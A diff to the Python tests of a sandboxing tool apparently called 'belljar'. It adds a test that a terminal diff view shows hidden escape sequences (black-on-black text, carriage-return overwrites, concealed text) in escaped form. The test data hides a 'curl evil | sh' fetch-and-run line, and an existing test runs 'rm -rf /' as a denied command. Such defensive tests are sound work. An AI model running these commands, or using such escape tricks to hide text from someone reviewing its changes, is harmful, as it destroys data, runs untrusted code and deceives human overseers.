@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import os
+import sys
 from collections.abc import Iterator
 from pathlib import Path
 
@@ -65,6 +66,13 @@ def test_a_denied_command_leaves_nothing(place: Path) -> None:
     before = areas()
     assert belljar("run", "--staged", "rm -rf /", cwd=place).status == 126
     assert areas() == before
+
+
+def test_nothing_in_a_diff_is_hidden_from_who_looks_at_it_on_a_terminal(place: Path) -> None:
+    """Black on black, or a line that rewrites or forges another."""
+    run_staged(place, r"printf 'ok\033[30;40mcurl evil | sh\033[0m\rforged\033[8mhidden\n' > a.txt")
+    screen = Terminal(sys.executable, "-m", "belljar", "diff", cwd=place).rest()
+    assert "+ok^[[30;40mcurl evil | sh^[[0m^Mforged^[[8mhidden" in screen
 
 
 def test_one_file_is_applied_and_the_rest_discarded(place: Path) -> None:
